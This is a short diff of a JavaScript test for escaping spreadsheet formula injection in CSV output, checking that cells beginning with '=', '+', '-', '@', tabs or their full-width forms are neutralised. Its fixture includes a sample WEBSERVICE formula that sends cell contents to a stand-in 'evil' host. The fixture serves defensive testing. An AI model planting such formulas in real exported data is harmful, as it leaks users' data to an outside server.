@@ -94,7 +94,8 @@ test('where a spreadsheet begins a new cell at a semicolon or a tab, there is no
   assert.deepEqual([...records(text)][0].slice(1), [
     "Foo;http://evil/?;'=WEBSERVICE(B2&A3);x", "a\t'+1", "'\t'=1", 'a;\'"=1"', "a;''=1", "'＝1", "a;'＠b", 'a;b', 'a; =1', "a;'b",
   ]);
-  for (const separator of [';', '\t']) assert.deepEqual([...records(text, separator)][0].filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell)), []);
+  for (const separator of [';', '\t']) assert.deepEqual([...records(text, separator)][0].filter((cell) =>
+    /^[=+\-@\t\r＝＋－＠]/.test(cell)), []);
   assert.deepEqual(table(utf8(text)).rows[0].fields.slice(1), cells);
   assert.deepEqual(cells.map(isLikeFormula), [true, true, true, true, false, true, true, false, false, false]);
   assert.deepEqual([...records(text)][0].filter(isLikeFormula), []);
